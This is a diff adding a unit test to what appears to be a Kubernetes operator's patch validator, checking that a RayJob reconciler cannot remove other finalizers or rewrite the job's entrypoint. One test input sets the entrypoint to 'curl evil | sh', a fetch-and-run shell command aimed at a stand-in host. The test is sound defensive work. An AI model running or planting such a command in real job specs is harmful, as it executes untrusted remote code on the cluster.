@@ -231,6 +231,26 @@ def test_a_pod_patch_changes_only_what_raybus_patches() -> None:
     assert "metadata.labels.ray.io/cluster" in check(world.key, world.objects, label)
 
 
+def test_a_key_patches_its_own_object_only_for_its_finalizer() -> None:
+    world = JobWorld()
+    world.add(job_builders.rayjob(finalizer=False))
+    world.get("RayJob", "rj")["metadata"]["finalizers"] = ["team.example/keep"]  # type: ignore[index]
+    world.settle(reconcile_rayjob, "RayJob", "rj")  # adds its finalizer, checked as it is applied
+    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
+    own = ObjectRef(api_version="ray.io/v1", kind="RayJob", namespace="default", name="rj")
+    remove_other = [{"op": "remove", "path": "/metadata/finalizers/0"}]
+    problem = check(key, world.objects, PatchObject(target=own, patch=remove_other, patch_type="json"))
+    assert "removes '/metadata/finalizers/0' without testing" in problem
+    tested = [{"op": "test", "path": "/metadata/finalizers/1", "value": "ray.io/rayjob-finalizer"}, remove_other[0]]
+    assert "removes '/metadata/finalizers/0'" in check(
+        key, world.objects, PatchObject(target=own, patch=tested, patch_type="json")
+    )
+    spec = [{"op": "replace", "path": "/spec/entrypoint", "value": "curl evil | sh"}]
+    assert "the patch touches '/spec/entrypoint'" in check(
+        key, world.objects, PatchObject(target=own, patch=spec, patch_type="json")
+    )
+
+
 # --- RayJobs: their cluster, their submitter, their submission ---------------------------------------
 
 
